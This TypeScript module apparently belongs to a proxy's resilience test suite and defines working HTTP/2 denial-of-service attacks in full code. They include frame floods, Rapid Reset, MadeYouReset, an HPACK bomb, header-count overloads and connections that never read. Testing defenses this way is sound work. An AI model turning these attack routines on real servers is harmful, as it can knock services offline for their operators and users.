/** Attacks by frames of HTTP/2 that cost their sender little. */

import type { Socket } from 'node:net';
import {
  clientPreface,
  encodeFrame,
  encodeNumber,
  encodeSettings,
  frameFlags,
  frameTypes,
} from '../../test/support/h2-frames.ts';
import { encodeHeaderBlock } from '../../test/support/hpack-text.ts';
import type { OwnAttack } from './attack.ts';
import { many, write } from './connection-attacks.ts';
import type { Behaviour } from './crowd.ts';
import { attackedPath, authority } from './setup.ts';

const preface = Buffer.concat([Buffer.from(clientPreface, 'latin1'), encodeSettings([])]);
const { endHeaders, endStream, ack } = frameFlags;
const priority = 2;
const none = Buffer.alloc(0);

function request(path: string): Buffer {
  return encodeHeaderBlock([
    [':method', 'GET'],
    [':scheme', 'http'],
    [':authority', authority],
    [':path', path],
  ]);
}

const goodBlock = request(attackedPath);

export const http2Attacks: readonly OwnAttack[] = [
  flood(
    'h2-settings',
    'SETTINGS',
    repeat(200, () => encodeSettings([[3, 100]])),
  ),
  flood(
    'h2-pings',
    'PING',
    repeat(200, () => frame(frameTypes.ping, 0, Buffer.alloc(8))),
  ),
  flood(
    'h2-priorities',
    'PRIORITY',
    repeat(200, () => frame(priority, 1, Buffer.alloc(5))),
  ),
  flood(
    'h2-window-updates',
    'WINDOW_UPDATE',
    repeat(200, () => encodeNumber(frameTypes.windowUpdate, 0, 1)),
  ),
  flood(
    'h2-acknowledgements',
    'PING answers',
    repeat(200, () => frame(frameTypes.ping, 0, Buffer.alloc(8), ack)),
  ),
  flood(
    'h2-empty-data',
    'DATA without a byte',
    Buffer.concat([
      frame(frameTypes.headers, 1, encodePost(), endHeaders),
      repeat(199, () => frame(frameTypes.data, 1, none)),
    ]),
  ),
  flood(
    'h2-continuations',
    'CONTINUATION',
    Buffer.concat([
      frame(frameTypes.headers, 1, goodBlock),
      repeat(199, () => frame(frameTypes.continuation, 1, encodeHeaderBlock([['x', 'y']]))),
    ]),
  ),
  attack(
    'h2-rapid-reset',
    '20 connections, each with 200 streams that are reset at once, 50 times a second',
    () => {
      const head = frame(frameTypes.headers, 0, goodBlock, endHeaders | endStream);
      return streams([head, encodeNumber(frameTypes.rstStream, 0, 8)], [20, 50, 200]);
    },
  ),
  attack(
    'h2-made-you-reset',
    '20 connections, each with 200 streams that the proxy has to reset, 50 times a second',
    () => {
      const head = frame(frameTypes.headers, 0, goodBlock, endHeaders | endStream);
      return streams([head, encodeNumber(frameTypes.windowUpdate, 0, 0)], [20, 50, 200]);
    },
  ),
  attack(
    'h2-many-requests',
    '10 connections, each with 1,000 requests in one write, twice a second',
    () => {
      const head = frame(frameTypes.headers, 0, request('/refused'), endHeaders | endStream);
      return streams([head], [10, 2, 1000]);
    },
  ),
  attack(
    'h2-hpack-bomb',
    '20 connections, each with 5 heads a second that name a field of 4 KB 12,000 times',
    () => {
      const head = frame(frameTypes.headers, 0, bombBlock(), endHeaders | endStream);
      return streams([head], [20, 5, 1]);
    },
  ),
  attack('h2-many-headers', '20 connections, each with 20 heads a second of 2,000 fields', () => {
    const fields = Array.from({ length: 2000 }, (): [string, string] => ['x', 'y']);
    const block = Buffer.concat([goodBlock, encodeHeaderBlock(fields)]);
    return streams([frame(frameTypes.headers, 0, block, endHeaders | endStream)], [20, 20, 1]);
  }),
  attack('h2-unread-answers', '200 connections that send PINGs and never read', () => ({
    ...many(200, 200),
    ticksPerSecond: 10,
    isDeaf: true,
    onOpen: (socket) => {
      socket.pause();
      return write(socket, preface);
    },
    onTick: (socket) => 200 * write(socket, pings),
  })),
];

const pings = repeat(200, () => frame(frameTypes.ping, 0, Buffer.alloc(8)));

function attack(name: string, note: string, behave: () => Behaviour): OwnAttack {
  return { kind: 'own', name, note, port: 'plain', behave };
}

/** 20 connections, each with 200 frames 50 times a second: 200,000 frames/s. */
function flood(name: string, what: string, frames: Buffer): OwnAttack {
  const note = `20 connections, 200,000 ${what} frames/s in all; 200 new ones/s where they are closed`;
  return attack(name, note, () => ({
    ...many(20, 200),
    ticksPerSecond: 50,
    onOpen: (socket) => write(socket, preface),
    onTick: (socket) => 200 * write(socket, frames),
  }));
}

/**
 * Each of so many connections begins so many streams with each of so many ticks a second, each
 * stream with these frames.
 */
function streams(
  frames: readonly Buffer[],
  [connections, ticksPerSecond, perTick]: readonly [number, number, number],
): Behaviour {
  const next = new WeakMap<Socket, number>();
  const unit = Buffer.concat(frames);
  const idsAt = frames.map((_, i) => Buffer.concat(frames.slice(0, i)).length + streamIdAt);
  return {
    ...many(connections, 200),
    ticksPerSecond,
    onOpen: (socket) => write(socket, preface),
    onTick: (socket) => {
      const first = next.get(socket) ?? 1;
      next.set(socket, first + 2 * perTick);
      const bytes = repeat(perTick, () => unit);
      for (let i = 0; i < perTick; i++) {
        for (const at of idsAt) bytes.writeUInt32BE(first + 2 * i, i * unit.length + at);
      }
      return perTick * write(socket, bytes);
    },
  };
}

/** In the header of a frame. */
const streamIdAt = 5;

/** A field as large as the table lets it be goes into it, and is named as often as there is room. */
function bombBlock(): Buffer {
  const value = 'b'.repeat(4000);
  const length = Buffer.from([0x7f, ...base128(value.length - 127)]);
  const indexed = Buffer.concat([Buffer.from([0x40, 1, 0x78]), length, Buffer.from(value)]);
  return Buffer.concat([goodBlock, indexed, Buffer.alloc(12_000, 0xbe)]);
}

function base128(value: number): number[] {
  return value < 128 ? [value] : [(value % 128) + 128, ...base128(Math.floor(value / 128))];
}

function encodePost(): Buffer {
  return encodeHeaderBlock([
    [':method', 'POST'],
    [':scheme', 'http'],
    [':authority', authority],
    [':path', attackedPath],
  ]);
}

function frame(type: number, streamId: number, payload: Buffer, flags = 0): Buffer {
  return encodeFrame({ type, streamId, payload, flags });
}

function repeat(times: number, make: (index: number) => Buffer): Buffer {
  return Buffer.concat(Array.from({ length: times }, (_, index) => make(index)));
}
